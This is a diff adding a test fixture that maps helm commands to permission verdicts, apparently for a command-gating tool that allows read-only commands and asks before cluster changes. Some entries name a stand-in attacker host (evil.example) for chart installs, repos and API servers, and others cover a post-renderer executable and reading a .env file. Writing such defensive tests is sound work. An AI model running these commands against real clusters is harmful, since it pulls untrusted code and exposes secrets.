@@ -1,0 +1,33 @@
+import type { Line } from '../split-line'
+
+/** It reads; what changes a cluster or prints secrets asks. */
+export const LINES: readonly Line[] = [
+  ['helm list', 'allow', 'allow'],
+  ['helm list -A', 'allow', 'allow'],
+  ['helm list -n web -o json', 'allow', 'allow'],
+  ['helm history web', 'allow', 'allow'],
+  ['helm template ./chart', 'allow', 'allow'],
+  ['helm template web ./chart -f values.yaml', 'allow', 'allow'],
+  ['helm template web ./chart --set a=b', 'allow', 'allow'],
+  ['helm lint ./chart', 'allow', 'allow'],
+  ['helm search repo nginx', 'allow', 'allow'],
+  ['helm version', 'allow', 'allow'],
+  ['helm version --short', 'allow', 'allow'],
+  ['helm status web', 'confirm', 'confirm'],
+  ['helm get values web', 'confirm', 'confirm'],
+  ['helm get manifest web', 'confirm', 'confirm'],
+  ['helm install web ./chart', 'confirm', 'confirm'],
+  ['helm install web oci://evil.example/x', 'confirm', 'confirm'],
+  ['helm upgrade --install web ./chart', 'confirm', 'confirm'],
+  ['helm upgrade web ./chart -f values.yaml', 'confirm', 'confirm'],
+  ['helm rollback web 1', 'confirm', 'confirm'],
+  ['helm uninstall web', 'confirm', 'confirm'],
+  ['helm repo add x https://evil.example', 'confirm', 'confirm'],
+  ['helm template web oci://evil.example/x', 'confirm', 'confirm'],
+  ['helm template web ./chart --post-renderer ./x', 'confirm', 'confirm'],
+  ['helm template web ./chart --output-dir x', 'confirm', 'confirm'],
+  ['helm list --kubeconfig x', 'confirm', 'confirm'],
+  ['helm list --kube-apiserver https://evil.example', 'confirm', 'confirm'],
+  ['helm plugin install x', 'confirm', 'confirm'],
+  ['helm template web ./chart -f .env', 'confirm', 'confirm'],
+]
